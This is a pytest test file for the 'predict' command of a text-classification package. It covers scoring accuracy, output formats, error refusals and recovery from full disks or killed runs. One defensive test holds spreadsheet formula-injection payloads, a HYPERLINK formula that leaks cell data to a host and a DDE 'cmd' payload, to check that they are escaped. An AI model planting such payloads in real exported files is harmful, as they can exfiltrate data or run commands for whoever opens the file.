"""`indictune predict`: texts in, labels out, as in training."""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import json
import os
import random
import resource
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from io import BufferedReader
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import python_calamine
import torch
from safetensors.torch import load_file, save_file
from transformers import (
    AutoConfig,
    AutoModelForSequenceClassification,
    AutoTokenizer,
    BertConfig,
    LlamaConfig,
    pipeline,
)

import indictune
from indictune.cli import main
from indictune.data.text.cleaning import clean
from indictune.errors import UserError
from indictune.models.serving_model import serve_as_trained
from indictune.prediction import labelled_parts
from indictune.prediction.labelled_rows import label_texts, line_windows
from tests.first_hour.saved_models import LABELS, MAX_LENGTH, saved_classifier
from tests.first_hour.sheets import write_ods, write_xlsx
from tests.ranks.launching import ROOT, begin, python, start, torchrun
from tests.refusals import refused

TWEET = "यह फिल्म बहुत अच्छी थी ఈ సినిమా చాలా బాగుంది இந்த படம் மோசம் Worst MOVIE ever @friend #great_day http://a.b 😂"
WORDS = TWEET.split()


def invented(number: int, longest: int = 30) -> list[str]:
    draw = random.Random(5)
    return [" ".join(draw.choices(WORDS, k=draw.randint(1, longest))) for _ in range(number)]


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return saved_classifier(tmp_path_factory.mktemp("single"))


def logits_of(model: Path, texts: list[str]) -> torch.Tensor:
    """By transformers alone, one text after the other; [texts, labels]."""
    tokenizer = AutoTokenizer.from_pretrained(model)
    plain = AutoModelForSequenceClassification.from_pretrained(model).eval()
    rows = [tokenizer(clean(text), truncation=True, max_length=MAX_LENGTH, return_tensors="pt") for text in texts]
    with torch.no_grad():
        return torch.cat([plain(**row).logits for row in rows])


def write_csv(path: Path, texts: list[str], header: str = "tweet") -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("id", header), *enumerate(texts)])
    return path


def as_cells(texts: list[str]) -> list[str]:
    """What a csv file has for these texts: an apostrophe before what a spreadsheet would take for a formula."""
    return [f"'{text}" if text.startswith("@") else text for text in texts]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_texts_get_the_labels_and_scores_of_the_plain_model(model: Path) -> None:
    texts = [*invented(60), "", "word " * 700]
    found = label_texts(model, texts)
    expected = logits_of(model, texts).softmax(1)
    assert {row["label"] for row in found} == {*LABELS, None}
    for text, row, scores in zip(texts, found, expected, strict=True):
        assert row["text"] == text
        if not text:
            assert (row["label"], row["language"]) == (None, "und")
            assert row["scores"] == dict.fromkeys(LABELS)
            continue
        assert row["scores"] == pytest.approx(dict(zip(LABELS, scores.tolist(), strict=True)), abs=1e-4)
        assert row["label"] == max(row["scores"], key=row["scores"].__getitem__)
    assert found[0]["language"] == "hi" or label_texts(model, ["यह अच्छी"])[0]["language"] == "hi"


def test_a_model_whose_scores_are_no_numbers_labels_nothing(model: Path, tmp_path: Path) -> None:
    damaged = tmp_path / "model"
    shutil.copytree(model, damaged)
    weights = load_file(damaged / "model.safetensors")
    name = next(name for name in weights if name.endswith("classifier.bias"))
    weights[name][0] = torch.nan
    save_file(weights, damaged / "model.safetensors", metadata={"format": "pt"})
    with refused("logits-not-finite", flag="--model"):
        label_texts(damaged, ["अच्छा"])


@pytest.mark.parametrize("texts", [b"good", {"text": "good"}, [b"good"], [1.5]])
def test_what_is_no_text_is_refused_and_no_text_gives_no_row(model: Path, texts: Any) -> None:
    with refused("wrong-type", flag="texts"):
        indictune.predict(texts, model)
    assert indictune.predict([], model) == []


def test_calibrated_scores_are_those_of_cooler_logits(model: Path, tmp_path: Path) -> None:
    texts = invented(20)
    assert [each.code for each in _refused(lambda: label_texts(model, texts, calibrated=True))] == ["not-calibrated"]
    folder = shutil.copytree(model, tmp_path / "calibrated")
    config = json.loads((folder / "config.json").read_text()) | {"calibration_temperature": 2.5}
    (folder / "config.json").write_text(json.dumps(config))
    plain, cooled = label_texts(folder, texts), label_texts(folder, texts, calibrated=True)
    expected = (logits_of(model, texts) / 2.5).softmax(-1)
    assert torch.allclose(torch.tensor([list(row["scores"].values()) for row in cooled]), expected, atol=1e-5)
    assert [row["label"] for row in cooled] == [row["label"] for row in plain]
    assert plain == label_texts(model, texts)


def _refused(call: Any) -> list[Any]:
    with pytest.raises(UserError) as raised:
        call()
    return raised.value.problems


@pytest.mark.parametrize("kind", ["multi_label_classification", "regression", "lora"])
def test_models_of_every_kind(tmp_path: Path, kind: str) -> None:
    texts = invented(20)
    is_lora = kind == "lora"
    model = saved_classifier(tmp_path, None if is_lora else kind, **({"method": "lora"} if is_lora else {}))
    found = label_texts(model, texts)
    if is_lora:
        from peft import PeftModel

        base = AutoModelForSequenceClassification.from_pretrained(
            json.loads((model / "adapter_config.json").read_text())["base_model_name_or_path"], num_labels=3
        )
        PeftModel.from_pretrained(base, str(model)).merge_and_unload().save_pretrained(tmp_path / "merged")
        shutil.copy(model / "tokenizer.json", tmp_path / "merged")
        shutil.copy(model / "tokenizer_config.json", tmp_path / "merged")
        model = tmp_path / "merged"
    logits = logits_of(model, texts)
    if kind == "regression":
        assert [row["label"] for row in found] == pytest.approx(logits[:, 0].tolist(), abs=1e-3)
        assert "scores" not in found[0]
        return
    scores = logits.softmax(1) if is_lora else logits.sigmoid()
    assert [list(row["scores"].values()) for row in found] == [pytest.approx(row, abs=1e-4) for row in scores.tolist()]
    if not is_lora:
        assert [row["label"] for row in found] == [
            [name for name, score in row["scores"].items() if score >= 0.5] for row in found
        ]


def test_a_file_becomes_a_file_of_the_same_rows(model: Path, tmp_path: Path) -> None:
    texts = [*invented(40), " ", 'with "quotes", and a\nline break']
    source = write_csv(tmp_path / "in.csv", texts)
    for name in ("out.csv", "out.jsonl", "out.parquet"):
        flags = ["--input_file", str(source), "--keep_columns", "id", "--output_file", str(tmp_path / name)]
        assert main(["predict", str(model), *flags]) == 0
    rows = read_csv(tmp_path / "out.csv")
    assert [(row["id"], row["text"]) for row in rows] == [
        (str(index), text) for index, text in enumerate(as_cells(texts))
    ]
    expected = label_texts(model, texts)
    assert [row["label"] for row in rows] == [row["label"] or "" for row in expected]
    assert float(rows[0]["score_joy"]) == pytest.approx(expected[0]["scores"]["joy"], abs=1e-5)
    lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    table = pq.read_table(tmp_path / "out.parquet").to_pylist()
    assert [row["label"] for row in lines] == [row["label"] for row in table] == [row["label"] for row in expected]
    assert [row["language"] for row in lines] == [row["language"] for row in expected]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["in.csv", "out.csv", "out.jsonl", "out.parquet"]


@pytest.mark.parametrize("kind", ["csv", "tsv"])
def test_no_cell_is_a_formula(model: Path, tmp_path: Path, kind: str) -> None:
    """A spreadsheet would run it. Other kinds of files have the texts as they are."""
    texts = ['=HYPERLINK("http://a.b?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "a = b", "-5", "+1.5"]
    (tmp_path / "in.jsonl").write_text("".join(f"{json.dumps({'tweet': text, '=1': text})}\n" for text in texts))
    for name in (f"out.{kind}", "out.jsonl"):
        flags = ["--input_file", str(tmp_path / "in.jsonl"), "--output_file", str(tmp_path / name)]
        assert main(["predict", str(model), *flags, "--keep_columns", "=1"]) == 0
    with (tmp_path / f"out.{kind}").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file, delimiter="," if kind == "csv" else "\t"))
    assert [row["text"] for row in rows] == [f"'{text}" for text in texts[:4]] + texts[4:]
    assert [row["'=1"] for row in rows] == [row["text"] for row in rows]
    lines = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["text"] for line in lines] == texts


def test_a_long_line_costs_linear_time() -> None:
    """64 MiB took 16 s, because each piece was joined to all before it."""
    pieces = iter([b"a\nb", *[bytes(1 << 18)] * 256, b"\n\nc\n"])
    stream = SimpleNamespace(read1=lambda _: next(pieces, b""))
    begin = time.process_time()
    windows = list(line_windows(cast(BufferedReader, stream), "f.txt"))
    assert time.process_time() - begin < 5
    lengths = [len(text) for window in windows for text in window["text"].to_pylist()]
    assert lengths == [1, 1 + (64 << 20), 0, 1]


def test_a_kept_column_does_not_hide_a_label(model: Path, tmp_path: Path) -> None:
    row = {"tweet": "accha", "label": "mine", "language": "mr", "score_joy": 7}
    (tmp_path / "in.jsonl").write_text(f"{json.dumps(row)}\n", encoding="utf-8")
    flags = ["--input_file", str(tmp_path / "in.jsonl"), "--output_file", str(tmp_path / "out.csv")]
    assert main(["predict", str(model), *flags, "--keep_columns", "label", "language", "score_joy", "tweet"]) == 0
    (found,) = read_csv(tmp_path / "out.csv")
    assert found["label"] in LABELS
    assert float(found["score_joy"]) < 1
    kept = {"input_label": "mine", "input_language": "mr", "input_score_joy": "7", "tweet": "accha"}
    assert found.items() >= {**kept, "language": "mr", "text": "accha"}.items()


def test_a_language_column_is_believed(model: Path, tmp_path: Path) -> None:
    (tmp_path / "in.jsonl").write_text('{"tweet": "accha", "language": "mr"}\n{"tweet": "यह"}\n', encoding="utf-8")
    flags = ["--input_file", str(tmp_path / "in.jsonl"), "--output_file", str(tmp_path / "out.tsv")]
    assert main(["predict", str(model), *flags]) == 0
    lines = (tmp_path / "out.tsv").read_text(encoding="utf-8").splitlines()
    assert [line.split("\t")[-1] for line in lines] == ["language", "mr", "hi"]


def test_lines_of_standard_input_are_answered(
    model: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = io.TextIOWrapper(io.BufferedReader(io.BytesIO("बहुत अच्छी\r\n\nworst".encode())))
    monkeypatch.setattr(sys, "stdin", lines)
    assert main(["predict", str(model)]) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [row["text"] for row in rows] == ["बहुत अच्छी", "", "worst"]
    assert main(["predict", str(model), "--text", "बहुत अच्छी", "worst"]) == 0
    again = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    for answer, row in zip(again, [rows[0], rows[2]], strict=True):
        assert answer["scores"] == pytest.approx(row["scores"], abs=1e-4)
        assert (answer["text"], answer["label"], answer["language"]) == (row["text"], row["label"], row["language"])


def test_a_workbook_and_a_csv_for_excel_hold_the_labels(model: Path, tmp_path: Path) -> None:
    texts = ["एक <दो> & 'three'", "=1+1", "\x01 \U0001f600 good"]
    (tmp_path / "in.jsonl").write_text("".join(json.dumps({"tweet": each}) + "\n" for each in texts))
    flags = ["--input_file", str(tmp_path / "in.jsonl")]
    assert main(["predict", str(model), *flags, "--output_file", str(tmp_path / "out.xlsx")]) == 0
    assert main(["predict", str(model), *flags, "--output_file", str(tmp_path / "out.csv"), "--excel", "true"]) == 0
    header, *rows = python_calamine.load_workbook(tmp_path / "out.xlsx").get_sheet_by_index(0).to_python()
    content = (tmp_path / "out.csv").read_bytes()
    assert content.startswith(codecs.BOM_UTF8)
    names, *lines = csv.reader(content.decode("utf-8-sig").splitlines())
    assert header == names
    assert [row[0] for row in rows] == texts
    assert [row[1] for row in rows] == [line[1] for line in lines]
    assert [row[2] for row in rows] == [float(line[2]) for line in lines]


def test_excel_is_refused_for_other_files_and_too_many_rows_for_a_sheet(
    model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for more in (["--output_file", "o.jsonl"], []):
        assert main(["predict", str(model), "--text", "a", "--excel", "true", *more]) == 2
        assert "[no-effect]" in capsys.readouterr().err
    monkeypatch.setattr("indictune.commands.predict.MOST_SHEET_ROWS", 1)
    (tmp_path / "in.txt").write_text("a\nb\n")
    flags = ["--input_file", str(tmp_path / "in.txt"), "--output_file", str(tmp_path / "o.xlsx")]
    assert main(["predict", str(model), *flags]) == 2
    assert "[sheet-full]" in capsys.readouterr().err


def test_a_text_file_has_a_text_a_line(model: Path, tmp_path: Path) -> None:
    (tmp_path / "in.txt").write_text("एक, दो\n\ntwo\n", encoding="utf-8")
    flags = ["--input_file", str(tmp_path / "in.txt"), "--output_file", str(tmp_path / "out.csv")]
    assert main(["predict", str(model), *flags]) == 0
    assert [row["text"] for row in read_csv(tmp_path / "out.csv")] == ["एक, दो", "", "two"]
    (tmp_path / "mac.txt").write_bytes("एक, दो\r\rtwo\r".encode())  # no line feeds
    flags = ["--input_file", str(tmp_path / "mac.txt"), "--output_file", str(tmp_path / "mac.csv")]
    assert main(["predict", str(model), *flags]) == 0
    assert (tmp_path / "mac.csv").read_bytes() == (tmp_path / "out.csv").read_bytes()
    flags = ["--input_file", str(ROOT / "tests/inputs/tweets_sentimix.txt"), "--text_column", "text"]
    assert main(["predict", str(model), *flags, "--output_file", str(tmp_path / "tweets.csv")]) == 0
    tweets = [row["text"] for row in read_csv(tmp_path / "tweets.csv")]
    assert tweets == ["'@ lata_d kya movie thi 😍", "bakwaas meta no tab here", "ok"]  # @ begins no formula


@pytest.mark.more
def test_files_of_every_layout_are_labelled(model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "in.csv").write_text('tweet;n\nएक, दो;1\n"two;2\nthree;3\nfour;4\n', encoding="utf-8")
    write_xlsx(str(tmp_path / "in.xlsx"), [["tweet"], ["एक, दो"], ["three"], ["four"]])
    write_ods(str(tmp_path / "in.ods"), [["n", "tweet"], [1.0, "एक, दो"], [2.0, "three"], [3.0, "four"]])
    (tmp_path / "in.tsv").write_text("1\tएक, दो\n2\tthree\n3\tfour\n", encoding="utf-8")
    (tmp_path / "in.txt.gz").write_bytes(gzip.compress("एक, दो\nthree\nfour\n".encode()))
    lines = '{"tweet": "एक, दो"}\n{"tweet": "three"}\n{"tweet": "four"}\n'.encode()
    with pa.CompressedOutputStream(str(tmp_path / "in.jsonl.zst"), "zstd") as packed:
        packed.write(lines)
    quarantine = ["--bad_rows", "quarantine", "--max_bad_fraction", "0.3"]
    cases: dict[str, list[str]] = {"in.csv": quarantine, "in.tsv": ["--column_names", "id,tweet"]}
    cases |= {name: [] for name in ("in.xlsx", "in.ods", "in.txt.gz", "in.jsonl.zst")}
    for name, flags in cases.items():
        output = tmp_path / f"{name}.out.csv"
        files = ["--input_file", str(tmp_path / name), "--output_file", str(output)]
        assert main(["predict", str(model), *files, *flags]) == 0
        assert [row["text"] for row in read_csv(output)] == ["एक, दो", "three", "four"]
    assert "separated by ;" in capsys.readouterr().err
    assert main(["predict", str(model), "--input_file", str(tmp_path / "in.csv"), *quarantine]) == 0
    shown = capsys.readouterr()
    assert len(shown.out.splitlines()) == 3
    assert f"1 bad rows were left out, first {tmp_path / 'in.csv'}:" in shown.err


def codes_of(capsys: pytest.CaptureFixture[str], *words: str) -> list[str]:
    """The codes that a refused command shows."""
    assert main(["predict", *words]) == 2
    shown = capsys.readouterr()
    assert "Traceback" not in shown.err
    lines = shown.err.splitlines()
    return [line.rpartition("[")[2].rstrip("]") for line in lines if line.endswith("]")]


def test_what_cannot_be_labelled_is_refused_at_once(
    model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = str(write_csv(tmp_path / "in.csv", ["a"], header="text"))
    taken = str(write_csv(tmp_path / "taken.csv", []))
    both = codes_of(capsys, str(model), "--input_file", source, "--output_file", taken)
    assert both == ["output-exists", "column-missing"]
    assert codes_of(capsys, str(model), "--input_file", source, "--output_file", "no/such/out.csv") == [
        "no-output-folder",
        "column-missing",
    ]
    assert codes_of(capsys, str(model), "--text", "a", "--output_file", "out.doc") == ["file-kind-unknown"]
    assert codes_of(capsys, "--text", "a", "--input_file", source) == ["argument-missing", "two-text-sources"]
    assert codes_of(capsys, str(model), "--text", "a", "--keep_columns", "id") == ["no-columns-to-keep"]
    assert codes_of(capsys, str(model), source) == ["bare-word"]
    assert codes_of(capsys, str(model), "--input_file", str(tmp_path / "*.tsv")) == ["no-files-match"]
    assert main(["predict", str(model), "--input_file", taken, "--keep_columns", "idd"]) == 2
    assert "(--keep_columns)" in capsys.readouterr().err
    assert codes_of(capsys, str(model), "--text", "a", "--max_length", "9000") == ["max-length-over-positions"]
    (tmp_path / "bad.txt").write_bytes(b"ok\n\xff\n")
    (tmp_path / "bad.xlsx").write_bytes(b"PK\x03\x04 cut off")
    write_ods(str(tmp_path / "locked.ods"), [["tweet"], ["a"]], has_password=True)
    (tmp_path / "bad.csv.gz").write_bytes(gzip.compress(b"tweet\na\n")[:-6])
    unreadable = {
        "bad.txt": "not-utf8",
        "bad.xlsx": "sheet-damaged",
        "locked.ods": "sheet-protected",
        "bad.csv.gz": "unpacking-failed",
    }
    before = sorted(tmp_path.iterdir())
    for name, code in unreadable.items():
        flags = ["--input_file", str(tmp_path / name), "--output_file", str(tmp_path / "out.csv")]
        assert codes_of(capsys, str(model), *flags) == [code], name
    assert sorted(tmp_path.iterdir()) == before


def test_models_that_give_no_labels_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert codes_of(capsys, str(tmp_path), "--text", "a") == ["no-model"]
    (tmp_path / "train_log.jsonl").write_text("")
    assert codes_of(capsys, str(tmp_path), "--text", "a") == ["run-not-finished"]
    BertConfig(architectures=["BertForMaskedLM"]).save_pretrained(tmp_path)
    assert codes_of(capsys, str(tmp_path), "--text", "a") == ["run-not-finished"]
    (tmp_path / "metrics.json").write_text("{}")
    assert codes_of(capsys, str(tmp_path), "--text", "a") == ["predict-needs-classifier"]
    LlamaConfig(architectures=["LlamaForCausalLM"]).save_pretrained(tmp_path)
    assert codes_of(capsys, str(tmp_path), "--text", "a") == ["predict-of-language-model"]


@contextmanager
def room_for(size_bytes: int) -> Iterator[None]:
    """No file can grow beyond this size: EFBIG, which this package takes as it takes a full disk."""
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size_bytes, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)


def test_a_full_disk_leaves_nothing_half_written(
    model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source, out = str(write_csv(tmp_path / "in.csv", invented(200))), tmp_path / "out"
    out.mkdir()
    for name in ("out.csv", "out.parquet"):
        with room_for(3_000):
            flags = ["--input_file", source, "--output_file", str(out / name)]
            assert codes_of(capsys, str(model), *flags) == ["output-not-written"]
        assert list(out.iterdir()) == []
    with room_for(30):
        assert codes_of(capsys, str(model), "--text", "a", "--output_file", str(out / "o.csv")) == [
            "output-not-written"
        ]
    assert list(out.iterdir()) == []


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A disk of 256 KiB."""
    folder = tmp_path / "disk"
    folder.mkdir()
    mount = ["mount", "-t", "tmpfs", "-o", "size=256k", "small", str(folder)]
    if shutil.which("mount") is None or subprocess.run(mount, capture_output=True, check=False).returncode:
        pytest.skip("mounting a disk needs root")
    yield folder
    subprocess.run(["umount", "--lazy", str(folder)], check=True)


@pytest.mark.more
def test_a_full_disk_is_told_and_the_command_goes_on_once_there_is_room(
    model: Path, small_disk: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    texts = [f"{word} {index}" for index, word in enumerate(WORDS * 240)]
    out = small_disk / "out.csv"
    command = [str(model), "--input_file", str(write_csv(tmp_path / "in.csv", texts)), "--output_file", str(out)]
    filler, unfinished = small_disk / "filler", small_disk / ".out.csv.unfinished"
    for taken_bytes, kept in ((200_000, 0), (60_000, 1), (0, 2)):  # of two windows; then the output finds no room
        filler.write_bytes(bytes(taken_bytes))
        assert codes_of(capsys, *command) == ["output-not-written"]
        assert len(list(unfinished.glob("*.arrow"))) == kept
        assert set(small_disk.iterdir()) == {filler, *([unfinished] if kept else [])}
        assert all(path.suffix in (".arrow", ".json", "") for path in unfinished.glob("*"))
    filler.unlink()
    subprocess.run(["mount", "-o", "remount,size=8m", str(small_disk)], check=True)
    assert main(["predict", *command]) == 0
    assert "resuming: " in capsys.readouterr().err
    assert [row["text"] for row in read_csv(out)] == as_cells(texts)
    assert list(small_disk.iterdir()) == [out]


def test_a_killed_command_goes_on_without_a_lost_or_repeated_row(model: Path, tmp_path: Path) -> None:
    texts = [f"{word} {index}" for index, word in enumerate(WORDS * 500)]
    source, out = write_csv(tmp_path / "in.csv", texts), tmp_path / "out.csv"
    command = ["indictune/__main__.py", "predict", str(model), "--input_file", str(source), "--output_file", str(out)]
    killed = begin(command, {**os.environ, "OMP_NUM_THREADS": "1"})
    parts = tmp_path / ".out.csv.unfinished"
    while not list(parts.glob("*.arrow")) and killed.poll() is None:
        time.sleep(0.02)
    os.kill(killed.pid, signal.SIGKILL)
    assert killed.wait() == -signal.SIGKILL
    assert not out.exists()
    result = start([*torchrun(2), *command])
    assert result.returncode == 0, result.stderr
    assert "resuming: " in result.stderr
    rows = read_csv(out)
    assert [row["text"] for row in rows] == as_cells(texts)
    some = [0, 4_095, 4_096, 9_000, len(texts) - 1]
    expected = label_texts(model, [texts[index] for index in some])
    assert [rows[index]["label"] for index in some] == [row["label"] for row in expected]
    assert [path.name for path in sorted(tmp_path.iterdir())] == ["in.csv", "out.csv"]


@pytest.mark.more
def test_a_late_rank_finds_the_work_done(model: Path, tmp_path: Path) -> None:
    source, out = write_csv(tmp_path / "in.csv", invented(5)), tmp_path / "out.csv"
    command = ["indictune/__main__.py", "predict", str(model), "--input_file", str(source), "--output_file", str(out)]
    for rank in ("0", "1"):
        of_rank = {"RANK": rank, "LOCAL_RANK": rank, "WORLD_SIZE": "2", "LOCAL_WORLD_SIZE": "2"}
        result = start([*python(), *command], {**os.environ, **of_rank}, timeout_s=60)
        assert result.returncode == 0, result.stderr
    assert len(read_csv(out)) == 5


def test_a_rank_that_sees_nothing_of_rank_0_ends(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(labelled_parts, "WAIT_FOR_RANK_0_S", 0.3)
    with pytest.raises(UserError) as refused:
        labelled_parts.LabelledParts(str(tmp_path / "out.csv"), {}).wait_until_open()
    assert refused.value.code == "predict-without-rank-0"


@pytest.mark.more
def test_a_plain_pipeline_labels_texts_as_predict_does(tmp_path: Path) -> None:
    """Cleaning and cutting are in the saved tokenizer. A text with more tokens than the training's is cut if asked."""
    model = saved_classifier(tmp_path / "model")
    tokenizer, config = AutoTokenizer.from_pretrained(model), AutoConfig.from_pretrained(model)
    serve_as_trained(model, tokenizer, config, MAX_LENGTH)
    texts = invented(1_000, longest=24)
    classify = pipeline("text-classification", str(model), batch_size=64)
    expected = label_texts(model, texts)
    found: Any = classify(texts, truncation=True, top_k=None)
    for row, scores in zip(expected, found, strict=True):
        assert {each["label"]: each["score"] for each in scores} == pytest.approx(row["scores"], abs=1e-4)
    lengths = [len(ids) for ids in tokenizer([clean(text) for text in texts])["input_ids"]]
    short = [index for index, length in enumerate(lengths) if length <= MAX_LENGTH]
    assert 300 < len(short) < 900
    uncut: Any = classify([texts[index] for index in short])
    assert [each["label"] for each in uncut] == [expected[index]["label"] for index in short]
    plain: Any = classify("बहुत " * 600)
    assert plain[0]["label"] in LABELS
